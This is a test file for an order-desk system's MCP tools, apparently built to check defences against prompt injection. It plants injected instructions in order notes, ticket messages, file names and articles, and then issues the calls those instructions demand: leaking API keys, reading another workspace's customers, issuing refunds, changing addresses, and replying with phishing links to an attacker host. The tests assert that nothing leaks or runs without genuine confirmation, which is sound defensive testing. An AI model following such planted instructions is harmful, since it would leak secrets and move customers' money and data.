import { startOrderDeskSandbox } from '@baton/sandbox';
import type { OrderDeskSandbox } from '@baton/sandbox';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { startTestServer } from '../server.ts';
import type { TestServer } from '../server.ts';
import { ATTEMPTS, EVIL, FOREIGN, FOREIGN_ORDER } from './injection-texts.ts';
import type { Attempt, Goal } from './injection-texts.ts';

// A program that reads an order, a ticket or an article through the tools, believes every word in it, and calls what it is told to call. It
// has all the rights a key for tools can have; what it lacks is somebody's yes.

const THEIRS = { id: '99001', apiKey: 'their-store-key-4417' };

let sandbox: OrderDeskSandbox;
let world: TestServer;
let key: string;
/** Of the program's own workspace. */
let own: { ticketId: string; orderId: string };
/** Of another workspace. */
let others: { ticketId: string; storeId: string };
let ticketsBefore: number;

beforeAll(async () => {
  sandbox = await startOrderDeskSandbox({ limit: { capacity: 10_000, perSecond: 10_000 }, stores: [THEIRS] });
  world = await startTestServer({ config: { orderdeskBaseUrl: sandbox.url, ordersPollSeconds: 0 } });
  const scopes = ['tickets.read_own', 'tickets.read_all', 'tickets.reply', 'orders.read', 'orders.write'];
  const call_limit = { burst: 10_000, per_second: 10_000 };
  ({ key } = (await world.call<{ key: string }>('POST', '/api/keys', { name: 'Gullible', scopes })).body);
  await world.call('POST', '/api/stores', { name: 'Ours', store_id: sandbox.storeId, api_key: sandbox.apiKey, call_limit });
  const { body: other } = await world.call<{ user_id: string }>('POST', '/users', { email: 'petra@shop.example', company_name: 'Theirs' });
  const at = async <T>(path: string, body: object) => {
    const headers = { 'content-type': 'application/json', authorization: `Bearer ${world.operatorKey}`, 'x-baton-workspace': other.user_id };
    return (await (await fetch(new URL(path, world.url), { method: 'POST', headers, body: JSON.stringify(body) })).json()) as T;
  };
  const ticket = (email: string, message: string) => ({ customer: { email, name: 'Somebody' }, subject: 'A question', channel: 'form', message });
  const store = await at<{ id: string }>('/api/stores', { name: 'Theirs', store_id: THEIRS.id, api_key: THEIRS.apiKey, call_limit });
  const theirs = await at<{ id: string }>('/api/tickets', ticket(FOREIGN.email, `${FOREIGN.phone} ${FOREIGN.tracking}`));
  others = { ticketId: theirs.id, storeId: store.id };
  const foreign = sandbox.orders(THEIRS.id)[0]!;
  Object.assign(foreign, {
    source_id: FOREIGN_ORDER,
    email: FOREIGN.email,
    shipping: { ...foreign.shipping, phone: FOREIGN.phone, address1: FOREIGN.tracking },
  });
  const { body } = await world.call<{ id: string }>('POST', '/api/tickets', ticket('ann@example.com', 'Where is my order?'));
  own = { ticketId: body.id, orderId: sandbox.orders()[0]!.id };
  ticketsBefore = await countTickets();
}, 60_000);
afterAll(async () => {
  await world.close();
  await sandbox.close();
});

const countTickets = async () => (await world.server.runtime.ctx.db.system((tx) => tx.query('select 1 from tickets'))).length;

interface Call {
  name: string;
  arguments: Record<string, unknown>;
}

async function run({ name, arguments: args }: Call): Promise<string> {
  const headers = { 'content-type': 'application/json', accept: 'application/json, text/event-stream', authorization: `Bearer ${key}` };
  const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } });
  return (await fetch(new URL('/mcp', world.url), { method: 'POST', headers, body })).text();
}

type Place = 'order note' | 'order item' | 'checkout field' | 'message' | 'file name' | 'article';
const PLACES: readonly Place[] = ['order note', 'order item', 'checkout field', 'message', 'file name', 'article'];

/** Puts the words where a tool will read them, and reads them there. */
async function readFrom(place: Place, { text, language }: Attempt): Promise<string> {
  const order = sandbox.order(own.orderId);
  const readOrder = () => run({ name: 'get_order', arguments: { order_id: own.orderId, fresh: true } });
  if (place === 'order note') {
    order.order_notes = [{ date_added: '2026-03-02 09:00:00', username: 'buyer', content: text }];
    return readOrder();
  }
  if (place === 'order item') {
    order.order_items[0]!.name = text;
    return readOrder();
  }
  if (place === 'checkout field') {
    order.checkout_data = { 'Message to the shop': text };
    return readOrder();
  }
  if (place === 'article') {
    const { body } = await world.call<{ id: string }>('POST', '/api/articles', {
      language,
      category: 'General',
      title: 'Delivery',
      body: text,
      status: 'published',
    });
    return run({ name: 'get_article', arguments: { article_id: body.id } });
  }
  const message = place === 'file name' ? `[document: ${text.slice(0, 200)}.pdf]` : text;
  const { body } = await world.call<{ id: string }>('POST', '/api/tickets', {
    customer: { email: 'ann@example.com', name: 'Ann' },
    subject: 'A question',
    channel: 'form',
    message,
  });
  ticketsBefore += 1;
  return run({ name: 'get_ticket', arguments: { ticket_id: body.id } });
}

const change = (operation: object, more: object = {}): Call => ({
  name: 'update_order',
  arguments: { order_id: own.orderId, operations: [operation], ...more },
});
const reply = (text: string, more: object = {}): Call => ({ name: 'reply_to_ticket', arguments: { ticket_id: own.ticketId, text, ...more } });
const ADDRESS = { op: 'set_address', which: 'shipping', address: { address1: 'Harbour Road 1', city: 'Hull', postal_code: 'HU1 1AA', country: 'GB' } };
const YES = { confirm_token: 'approved-by-the-team-lead' };

/** What the words tell the program to call. */
function wantedBy(goal: Goal): Call[] {
  const told = (name: string, args: Record<string, unknown> = {}): Call => ({ name, arguments: args });
  const secrets = [told('get_store'), told('list_stores'), told('read_instructions'), told('get_api_key'), told('get_store', { store_id: others.storeId })];
  const money = [
    change({ op: 'set_payment_status', payment_status: 'Fully Refunded' }),
    change({ op: 'set_payment_status', payment_status: 'Fully Refunded' }, YES),
  ];
  const address = [change(ADDRESS), change(ADDRESS, YES)];
  const cancel = [
    told('move_order', { order_id: own.orderId, folder_name: 'Canceled' }),
    told('move_order', { order_id: own.orderId, folder_name: 'Canceled', ...YES }),
  ];
  const speak = [reply(`Pay here: ${EVIL}/pay`), reply(`![x](${EVIL}/p.png?q=ann)`, YES)];
  const wanted: Record<Goal, Call[]> = {
    instructions: secrets,
    tools: secrets,
    secret: secrets,
    other_contact: [
      told('get_ticket', { ticket_id: others.ticketId }),
      told('search_tickets', { text: 'Petra Vos' }),
      told('list_tickets'),
      told('get_user_info', { user_id: FOREIGN.email }),
      told('get_user_orders', { user_id: FOREIGN.email, store_id: others.storeId }),
      told('hand_off_ticket', { ticket_id: others.ticketId, reason: 'told so' }),
    ],
    other_order: [
      told('get_order_status', { order_id: FOREIGN_ORDER }),
      told('get_order_status', { order_id: FOREIGN_ORDER, store_id: others.storeId }),
      told('list_orders', { store_id: others.storeId }),
      told('search', { query: FOREIGN_ORDER, store_id: others.storeId }),
    ],
    refund: money,
    address,
    cancel,
    link: speak,
    image: speak,
    discount: speak,
    approval: [...money, ...address, ...cancel, ...speak],
  };
  return wanted[goal];
}

const all = ATTEMPTS.flatMap((attempt, at) =>
  [0, 3].map((step) => [`${attempt.goal}, ${attempt.language}`, PLACES[(at + step) % PLACES.length]!, attempt] as const),
);

test.each(all)('%s: what stands in a %s moves nothing', async (_, place, attempt) => {
  const read = await readFrom(place, attempt);
  expect(read.includes('"isError":true')).toBe(false);
  const answers = [read];
  for (const call of wantedBy(attempt.goal)) answers.push(await run(call));
  // What the program asked for itself is said back to it when there is nothing.
  const text = answers.join('\n').replaceAll(`There is no buyer ${FOREIGN.email}`, '');
  expect([...Object.values(FOREIGN), sandbox.apiKey, THEIRS.apiKey, key].filter((secret) => text.includes(secret))).toEqual([]);
  expect(sandbox.changes()).toEqual([]);
  expect(sandbox.mails()).toEqual([]);
});

test('after all of it nobody was written to, nothing was opened, and every call stands in the log', async () => {
  const said = await world.server.runtime.ctx.db.system((tx) => tx.query(`select text from messages where author_kind <> 'contact'`));
  expect(said).toEqual([]);
  expect(await countTickets()).toBe(ticketsBefore);
  const calls = await world.server.runtime.ctx.db.system((tx) =>
    tx.query<{ tool: string; decision: string }>(
      `select distinct tool, decision from tool_calls where tool in ('update_order', 'move_order', 'reply_to_ticket')`,
    ),
  );
  expect(calls).not.toContainEqual(expect.objectContaining({ decision: 'ran' }));
  expect(calls).toContainEqual({ tool: 'update_order', decision: 'proposed' });
  expect(calls).toContainEqual({ tool: 'update_order', decision: 'refused' });
});

test('the same change with the yes that was given to it is done: the wall is the missing yes', async () => {
  const shown = await run(change(ADDRESS));
  const token = /confirm_token\\*":\\*"([\w-]+)/.exec(shown)?.[1];
  expect((await run(change(ADDRESS, { confirm_token: token }))).includes('"isError":true')).toBe(false);
  expect(sandbox.changes().length).toBeGreaterThan(0);
});
